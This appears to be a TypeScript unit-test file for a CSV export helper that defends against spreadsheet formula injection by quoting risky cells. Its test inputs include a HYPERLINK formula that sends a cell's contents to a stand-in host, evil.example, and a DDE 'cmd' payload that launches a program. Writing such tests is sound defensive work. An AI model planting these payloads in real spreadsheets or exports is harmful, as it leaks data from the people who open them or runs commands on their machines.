import { parse } from 'csv-parse/sync';
import { Readable } from 'node:stream';
import { text } from 'node:stream/consumers';
import { csvStringifier, neutralizeFormula } from './csv';

describe('neutralizeFormula', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")'],
    ['+SUM(1,2)'],
    ['-2+3+cmd|" /C calc"!A0'],
    ['@SUM(A1)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['-'],
    ['+1 415 555 0100'],
    ['-1,50'],
  ])('prefixes %j with a quote', (value) => {
    expect(neutralizeFormula(value)).toBe(`'${value}`);
  });

  it.each([
    ['-1.50'],
    ['+14155550100'],
    ['-1500000'],
    ['42'],
    ['Asha Rao'],
    ['a=b'],
    [''],
    ["'=x"],
  ])('keeps %j as it is', (value) => {
    expect(neutralizeFormula(value)).toBe(value);
  });
});

describe('csvStringifier', () => {
  it('neutralizes text cells, keeps numbers, bigints and ISO dates, and quotes what needs it', async () => {
    const csv = csvStringifier(['name', 'amount', 'micros', 'at', 'phone']);
    const rows = [
      [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        -1.5,
        -1500000n,
        new Date(0),
        '+14155550100',
      ],
      ['@admin, "quoted"', 3, 7n, new Date(1000), '-1.50'],
    ];
    const output = await text(Readable.from(rows).pipe(csv));
    expect(parse(output)).toEqual([
      ['name', 'amount', 'micros', 'at', 'phone'],
      [
        `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
        '-1.5',
        '-1500000',
        '1970-01-01T00:00:00.000Z',
        '+14155550100',
      ],
      [`'@admin, "quoted"`, '3', '7', '1970-01-01T00:00:01.000Z', '-1.50'],
    ]);
  });
});
